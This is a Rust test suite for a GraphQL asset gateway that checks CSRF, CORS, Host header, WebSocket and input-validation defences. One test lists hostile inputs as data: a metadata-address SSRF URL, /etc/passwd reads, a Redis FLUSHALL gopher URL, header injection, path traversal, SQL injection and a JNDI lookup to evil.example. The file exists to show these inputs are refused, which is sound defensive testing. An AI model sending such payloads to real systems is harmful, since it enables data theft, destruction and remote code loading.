//! A page of another site can do only what the configuration allows.

use futures_util::{SinkExt, StreamExt};
use reqwest::{Method, header::HeaderMap};
use serde_json::{Value, json};
use tokio_tungstenite::tungstenite::Message;

use crate::harness::{TestGateway, asset_id, begin, error, open_socket, world, world_of};

const APP: &str = "https://app.example.com";

impl TestGateway {
    async fn request(
        &self,
        method: Method,
        path: &str,
        headers: &[(&str, &str)],
        body: &str,
    ) -> (u16, HeaderMap, String) {
        let mut request = self
            .client
            .request(method, self.url(path))
            .body(body.to_owned());
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let response = request.send().await.expect("an answer");
        let (status, headers) = (response.status().as_u16(), response.headers().clone());
        (status, headers, response.text().await.expect("a body"))
    }
}

#[tokio::test]
async fn requests_without_a_preflight_change_nothing() {
    let world = world().await;
    let id = asset_id("comfy", &world.sandbox.store.comfy()[0].id.clone());
    let mutation =
        format!("mutation {{ deleteAsset(input: {{assetId: \"{id}\"}}) {{ deletedId }} }}");
    let body = json!({ "query": mutation }).to_string();
    let form = format!("query={mutation}");
    let multipart = format!(
        "--x\r\ncontent-disposition: form-data; name=\"operations\"\r\n\r\n{body}\r\n--x\r\ncontent-disposition: form-data; name=\"map\"\r\n\r\n{{}}\r\n--x--\r\n"
    );
    for (content_type, body) in [
        ("text/plain", &body),
        ("text/plain;charset=UTF-8", &body),
        ("application/x-www-form-urlencoded", &form),
        ("application/x-www-form-urlencoded", &body),
        ("multipart/form-data; boundary=x", &multipart),
        ("Multipart/Form-Data; boundary=x", &multipart),
        ("text/plain; application/json", &body),
        ("application/jsonx", &body),
        ("application/graphql", &mutation),
        ("", &body),
    ] {
        let headers = [
            ("content-type", content_type),
            ("origin", "https://evil.example"),
        ];
        let headers = if content_type.is_empty() {
            &headers[1..]
        } else {
            &headers[..]
        };
        let (status, _, answer) = world.request(Method::POST, "/graphql", headers, body).await;
        assert!(
            [400, 415].contains(&status),
            "{content_type}: {status} {answer}"
        );
    }
    let query = format!(
        "/graphql?query={}",
        mutation.replace(' ', "%20").replace('"', "%22")
    );
    for method in [Method::GET, Method::HEAD] {
        let (status, ..) = world.request(method, &query, &[], "").await;
        assert_eq!(status, 405);
    }
    // A header that overrides the method has no effect.
    let headers = [("x-http-method-override", "POST")];
    assert_eq!(
        world.request(Method::GET, &query, &headers, "").await.0,
        405
    );
    assert_eq!(world.calls(), [0, 0, 0]);
}

#[tokio::test]
async fn a_get_of_another_sites_page_is_refused() {
    let world = world_of(&format!("[access]\ncors_origins = [\"{APP}\"]\n")).await;
    let path = "/graphql?query=%7B__typename%7D";
    let own_origin = format!("http://{}", world.address);
    for (headers, status) in [
        (vec![], 200),
        (vec![("sec-fetch-site", "same-origin")], 200),
        (vec![("sec-fetch-site", "none")], 200),
        (vec![("origin", &*own_origin)], 200),
        (vec![("origin", APP), ("sec-fetch-site", "cross-site")], 200),
        (vec![("sec-fetch-site", "cross-site")], 403),
        (vec![("sec-fetch-site", "same-site")], 403),
        (vec![("origin", "https://evil.example")], 403),
        (vec![("origin", "null")], 403),
        // A page can send these headers only after a preflight, which would fail.
        (
            vec![
                ("sec-fetch-site", "cross-site"),
                ("graphql-require-preflight", "1"),
            ],
            200,
        ),
        (
            vec![
                ("sec-fetch-site", "cross-site"),
                ("apollo-require-preflight", "true"),
            ],
            200,
        ),
        (
            vec![
                ("sec-fetch-site", "cross-site"),
                ("x-apollo-operation-name", "A"),
            ],
            200,
        ),
        (
            vec![
                ("sec-fetch-site", "cross-site"),
                ("apollo-require-preflight", ""),
            ],
            403,
        ),
    ] {
        let (found, _, answer) = world.request(Method::GET, path, &headers, "").await;
        assert_eq!(found, status, "{headers:?}: {answer}");
    }
}

#[tokio::test]
async fn only_listed_origins_read_answers() {
    let cors = "access-control-allow-origin";
    let preflight = [
        ("access-control-request-method", "POST"),
        (
            "access-control-request-headers",
            "content-type,authorization,x-asset-source-comfy",
        ),
    ];
    let ask = async |world: &TestGateway, method: Method, origin: &str| {
        let mut headers = vec![("origin", origin), ("content-type", "application/json")];
        if method == Method::OPTIONS {
            headers.extend(preflight);
        }
        world
            .request(method, "/graphql", &headers, "{\"query\":\"{__typename}\"}")
            .await
            .1
    };
    // No origin is allowed by default.
    let default_world = world().await;
    for method in [Method::OPTIONS, Method::POST] {
        let headers = ask(&default_world, method, APP).await;
        assert_eq!(headers.get(cors), None);
        assert_eq!(headers.get("access-control-allow-headers"), None);
    }
    let world = world_of(&format!(
        "[access]\ncors_origins = [\"{APP}\", \"http://localhost:3000\"]\n"
    ))
    .await;
    for origin in [APP, "http://localhost:3000"] {
        let headers = ask(&world, Method::OPTIONS, origin).await;
        assert_eq!(headers[cors], origin);
        let allowed = headers["access-control-allow-headers"]
            .to_str()
            .expect("text");
        assert!(allowed.contains("x-asset-source-comfy"), "{allowed}");
        assert!(
            headers["access-control-allow-methods"]
                .to_str()
                .expect("text")
                .contains("POST")
        );
        let headers = ask(&world, Method::POST, origin).await;
        assert_eq!(headers[cors], origin);
        assert!(headers["vary"].to_str().is_ok());
        let exposed = headers["access-control-expose-headers"]
            .to_str()
            .expect("text");
        assert!(
            exposed.contains("x-request-id") && exposed.contains("retry-after"),
            "{exposed}"
        );
        assert_eq!(headers.get("access-control-allow-credentials"), None);
    }
    for origin in [
        "https://evil.example",
        "https://app.example.com.evil.example",
        "https://app.example.com:8443",
        "http://app.example.com",
        "https://APP.example.com.",
        "null",
        "*",
    ] {
        for method in [Method::OPTIONS, Method::POST] {
            let headers = ask(&world, method, origin).await;
            assert_eq!(headers.get(cors), None, "{origin}");
        }
    }
}

#[tokio::test]
async fn wildcards_and_apps_are_listed_origins_too() {
    let world = world_of(
        "[access]\ncors_origins = [\"https://*.example.com\", \"capacitor://localhost\", \
         \"http://localhost:*\"]\n",
    )
    .await;
    let query = "/graphql?query=%7B__typename%7D";
    for (origin, is_listed) in [
        ("https://pr-7.example.com", true),
        ("capacitor://localhost", true),
        ("http://localhost:5173", true),
        ("https://a.b.example.com", false),
        ("https://example.com", false),
        ("tauri://localhost", false),
        ("http://127.0.0.1:5173", false),
    ] {
        let cors = "access-control-allow-origin";
        let preflight = [
            ("origin", origin),
            ("access-control-request-method", "POST"),
        ];
        let (status, headers, answer) = world
            .request(Method::OPTIONS, "/graphql", &preflight, "")
            .await;
        let allowed = headers.get(cors).map(|value| value.to_str().expect("text"));
        assert_eq!(
            (status == 200, allowed),
            (is_listed, is_listed.then_some(origin))
        );
        // The refusal says why, also to the preflight itself.
        if !is_listed {
            assert_eq!(status, 403);
            assert!(
                answer.contains("cors_origins") && answer.contains(origin),
                "{answer}"
            );
        }
        let (status, ..) = world
            .request(Method::GET, query, &[("origin", origin)], "")
            .await;
        assert_eq!(status, if is_listed { 200 } else { 403 }, "{origin}");
        let origin: &'static str = origin;
        let socket = open_socket(world.address, "graphql-transport-ws", Some(origin)).await;
        assert_eq!(socket.is_ok(), is_listed, "{origin}");
    }
    // Scripts read ranges and names of files.
    let list = "{ comfyAssets(first: 1) { nodes { url } } }";
    let url = world.data(list).await["comfyAssets"]["nodes"][0]["url"].clone();
    let url = reqwest::Url::parse(url.as_str().expect("a URL")).expect("a URL");
    let headers = [("origin", "https://a.example.com"), ("range", "bytes=0-9")];
    let (status, headers, _) = world.request(Method::GET, url.path(), &headers, "").await;
    assert_eq!(status, 206);
    assert_eq!(
        headers["access-control-allow-origin"],
        "https://a.example.com"
    );
    let exposed = headers["access-control-expose-headers"]
        .to_str()
        .expect("text");
    for name in [
        "accept-ranges",
        "content-range",
        "content-disposition",
        "etag",
    ] {
        assert!(exposed.contains(name), "{name}: {exposed}");
    }
}

#[tokio::test]
async fn listed_host_names_are_accepted() {
    let world = world_of("public_url = \"https://assets.example.com\"\n[access]\nallowed_hosts = [\"assets.internal.\"]\n").await;
    for (host, status) in [
        ("assets.example.com", 200),
        ("ASSETS.example.com:443", 200),
        ("assets.internal:8000", 200),
        ("localhost", 200),
        ("other.internal", 421),
        ("assets.example.com.evil.example", 421),
        ("169.254.169.254", 421),
        ("localhost.:8000", 200),
        ("assets.internal.", 200),
        ("", 400),
        ("a b", 400),
        ("user@localhost", 400),
        ("localhost:port", 400),
    ] {
        let headers = [("host", host), ("content-type", "application/json")];
        let (found, _, answer) = world
            .request(
                Method::POST,
                "/graphql",
                &headers,
                "{\"query\":\"{__typename}\"}",
            )
            .await;
        assert_eq!(found, status, "{host}: {answer}");
        assert!(status != 421 || answer.contains(host), "{answer}");
    }
}

#[tokio::test]
async fn a_socket_requires_a_listed_origin_and_a_credential() {
    let hash = blake3::hash(b"key-of-anna");
    let toml = format!(
        "[access]\nmode = \"keys\"\ncors_origins = [\"{APP}\"]\n[[access.keys]]\nid = \"anna\"\nhash = \"blake3:{hash}\"\nscopes = [\"assets:read\"]\n"
    );
    let world = world_of(&toml).await;
    let open = async |origin: Option<&'static str>, payload: Value| {
        let opened = open_socket(world.address, "graphql-transport-ws", origin).await;
        let Ok(mut socket) = opened else {
            return None;
        };
        let mut received = begin(&mut socket, &payload).await.unwrap_or_default();
        for message in [
            json!({ "type": "subscribe", "id": "1", "payload": { "query": "{ assetSources { name } a: deleteAsset }" } }),
            json!({ "type": "subscribe", "id": "2", "payload": { "query": "{ assetSources { name } }" } }),
        ] {
            // The socket may be closed already.
            let _ = socket.send(Message::text(message.to_string())).await;
        }
        while let Some(Ok(Message::Text(text))) = socket.next().await {
            received += &text;
            if text.contains("\"complete\"") && text.contains("\"2\"") {
                break;
            }
        }
        Some(received)
    };
    let key = json!({ "Authorization": "Bearer key-of-anna" });
    for origin in [None, Some(APP)] {
        let transcript = open(origin, key.clone()).await.expect("open");
        assert!(
            transcript.contains("connection_ack") && transcript.contains("\"comfy\""),
            "{transcript}"
        );
    }
    for origin in ["https://evil.example", "null", "http://app.example.com"] {
        assert_eq!(open(Some(origin), key.clone()).await, None, "{origin}");
    }
    for payload in [
        json!({}),
        json!({ "Authorization": "Bearer other" }),
        json!({ "Authorization": 7 }),
        json!({ "Authorization": "Bearer key-of-anna", "authorization": "Bearer key-of-anna" }),
        json!({ "Authorization": "Bearer key-of-anna\r\nx: y" }),
        json!({ "x-asset-source-comfy": "k", "Authorization": "Bearer key-of-anna" }),
    ] {
        let transcript = open(None, payload.clone()).await.expect("open");
        assert!(
            !transcript.contains("connection_ack") && !transcript.contains("\"data\""),
            "{payload}: {transcript}"
        );
    }
    assert_eq!(world.calls(), [0, 0, 0]);
}

#[tokio::test]
async fn introspection_and_suggestions_can_be_disabled() {
    let world = world_of("introspection = false\nsuggestions = false\n").await;
    for query in [
        "{ __schema { types { name } } }",
        "{ __type(name: \"Asset\") { name } }",
        "{ _service { sdl } }",
        "{ ...F } fragment F on Query { __schema { types { name } } }",
        "{ ... { x: __schema { types { name } } } }",
        "{ assetSources { name } ... on Query { ... on Query { __type(name: \"A\") { name } } } }",
        "query A { __typename } query B { __schema { types { name } } }",
    ] {
        for answer in [world.ask(query).await, {
            let body = json!([{ "query": query, "operationName": query.contains("query A").then_some("A") }]);
            let response = world
                .post(&body.to_string())
                .await
                .text()
                .await
                .expect("text");
            serde_json::from_str::<Value>(&response).expect("JSON")[0].clone()
        }] {
            assert_eq!(error(&answer).0, "GRAPHQL_VALIDATION_FAILED", "{query}");
            assert!(!answer.to_string().contains("ScenarioDetails"), "{query}");
        }
    }
    let answer = world.ask("{ assetSources { nam } }").await;
    let message = error(&answer).1;
    assert!(
        !message.contains("name") && !message.contains("Did you mean"),
        "{message}"
    );
    assert_eq!(
        world
            .ask("{ __typename assetSources { __typename } }")
            .await
            .get("errors"),
        None
    );
    // Suggestions are on by default.
    let world = crate::harness::world().await;
    assert!(
        error(&world.ask("{ assetSources { nam } }").await)
            .1
            .contains("name")
    );
}

#[tokio::test]
async fn hostile_texts_are_treated_as_plain_text() {
    let world = world().await;
    let long = "x".repeat(5_000);
    for text in [
        "http://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_FLUSHALL",
        "a\r\nx-injected: 1",
        "../../../../etc/passwd",
        "%2e%2e%2f",
        "\u{0}\u{202e}\u{feff}",
        "' OR 1=1 --",
        "${jndi:ldap://evil.example/a}",
        &long,
    ] {
        let variables = json!({ "t": text, "u": [text] });
        let query = "query($t: String, $u: [String!]) {
            a: assets(first: 1, filter: {search: $t}) { nodes { id } }
            b: assets(first: 1, filter: {nameContains: $t, tagsAny: $u}) { nodes { id } }
            c: comfyAssets(first: 1, after: $t) { nodes { id } }
            d: assets(first: 1, filter: {sources: $u}) { nodes { id } } }";
        let answer = world.ask_with(query, variables).await;
        let text = answer.to_string();
        assert!(
            !text.contains("root:") && !text.contains("INTERNAL\""),
            "{text}"
        );
        for id in ["asset(id: $t)", "node(id: $t)"] {
            let query = format!("query($t: ID!) {{ {id} {{ id }} }}");
            let answer = world.ask_with(&query, variables_of(&text)).await;
            assert_eq!(error(&answer).0, "BAD_USER_INPUT");
        }
    }
    // An upstream id is one path segment, whichever characters it contains.
    for upstream in [
        "../../admin",
        "x/../../y",
        "a?b=c#d",
        "a\u{301}b",
        "..",
        ".",
        "%2e%2e",
    ] {
        for source in ["scenario", "piktid", "comfy"] {
            let id = asset_id(source, upstream);
            world.forget_calls();
            let answer = world
                .ask(&format!("{{ asset(id: \"{id}\") {{ id }} }}"))
                .await;
            for emulator in [
                &world.sandbox.scenario,
                &world.sandbox.piktid,
                &world.sandbox.comfy,
            ] {
                for call in emulator.recorder.calls() {
                    assert!(
                        call.path.contains("/assets/")
                            && !call
                                .path
                                .split('/')
                                .skip(1)
                                .any(|part| ["", ".", ".."].contains(&part)),
                        "{}",
                        call.path
                    );
                }
            }
            assert!(answer["data"]["asset"].is_null(), "{answer}");
        }
    }
}

fn variables_of(text: &str) -> Value {
    json!({ "t": text })
}

#[tokio::test]
async fn malformed_requests_are_refused() {
    let world = world().await;
    let post = async |body: Vec<u8>| {
        let request = world.client.post(world.url("/graphql"));
        let request = request
            .header("content-type", "application/json")
            .body(body);
        let response = request.send().await.expect("an answer");
        let status = response.status().as_u16();
        (
            status,
            serde_json::from_str::<Value>(&response.text().await.expect("text")).expect("JSON"),
        )
    };
    let deep = format!(
        "{{\"query\":\"query($n:Int){{assets(first:$n){{nodes{{id}}}}}}\",\"variables\":{{\"n\":{}{}}}}}",
        "[".repeat(200),
        "]".repeat(200)
    );
    for body in [
        b"{\"query\":\"{a(x:\\\"\xff\xfe\\\")}\"}".to_vec(),
        b"\xef\xbb\xbf\xef\xbb\xbf{\"query\":\"{__typename}\"}".to_vec(),
        b"{\"query\":\"\\ud800\"}".to_vec(),
        b"{\"query\":\"query($n:Int){assets(first:$n){nodes{id}}}\",\"variables\":{\"n\":1e999}}"
            .to_vec(),
        b"{\"query\":{}}".to_vec(),
        b"null".to_vec(),
        b"\0".to_vec(),
        Vec::new(),
        deep.into_bytes(),
    ] {
        let shown = String::from_utf8_lossy(&body[..body.len().min(60)]).into_owned();
        let (status, answer) = post(body).await;
        assert_eq!(
            (status, &*error(&answer).0),
            (400, "BAD_USER_INPUT"),
            "{shown}"
        );
    }
    for (variables, code) in [
        (
            json!({ "n": 99_999_999_999_999_999_999_f64 }),
            "GRAPHQL_VALIDATION_FAILED",
        ),
        (json!({ "n": u64::MAX }), "GRAPHQL_VALIDATION_FAILED"),
        (json!({ "n": -1 }), "BAD_USER_INPUT"),
        (json!({ "n": 101 }), "BAD_USER_INPUT"),
    ] {
        let answer = world
            .ask_with(
                "query($n: Int) { assets(first: $n) { nodes { id } } }",
                variables.clone(),
            )
            .await;
        let found = error(&answer).0;
        assert!(
            found == code || found == "BAD_USER_INPUT",
            "{variables}: {answer}"
        );
    }
}

#[tokio::test]
async fn over_http2_a_page_of_the_host_in_the_authority_is_same_origin() {
    let world = world_of("public_url = \"https://assets.example.com\"\n").await;
    let client = reqwest::Client::builder()
        .http2_prior_knowledge()
        .build()
        .expect("a client");
    let port = world.address.port();
    let url = format!("http://127.0.0.1:{port}/graphql?query=%7B__typename%7D");
    for (origin, status) in [
        (format!("http://127.0.0.1:{port}"), 200),
        (format!("http://127.0.0.1:{}", port ^ 1), 403),
    ] {
        let response = client.get(&url).header("origin", &origin).send().await;
        assert_eq!(response.expect("an answer").status(), status, "{origin}");
    }
}

#[tokio::test]
async fn over_http2_a_host_that_differs_from_the_authority_is_malformed() {
    let world = world().await;
    let client = reqwest::Client::builder()
        .http2_prior_knowledge()
        .build()
        .expect("a client");
    let port = world.address.port();
    let url = format!("http://127.0.0.1:{port}/graphql?query=%7B__typename%7D");
    for (host, status) in [
        (format!("127.0.0.1:{port}"), 200),
        (format!("localhost:{port}"), 400),
        (format!("127.0.0.1:{}", port ^ 1), 400),
    ] {
        let request = client.get(&url).header("host", &host);
        let request = request.header("graphql-require-preflight", "1");
        let response = request.send().await.expect("an answer");
        assert_eq!(response.status(), status, "{host}");
    }
}
